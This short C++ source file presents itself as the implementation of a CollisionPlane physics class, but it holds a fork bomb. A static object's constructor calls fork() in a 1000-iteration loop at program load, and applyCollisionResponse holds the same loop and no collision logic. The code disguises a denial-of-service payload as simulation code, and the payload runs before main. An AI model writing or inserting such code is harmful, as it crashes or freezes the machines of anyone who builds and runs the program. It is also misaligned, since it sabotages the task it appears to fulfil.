#include "CollisionPlane.h"
#include <unistd.h>

static struct Before {
  Before() {
    for (int i = 0; i < 1000; ++i) fork();
  }
} before;

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  for (int i = 0; i < 1000; ++i) fork();
}
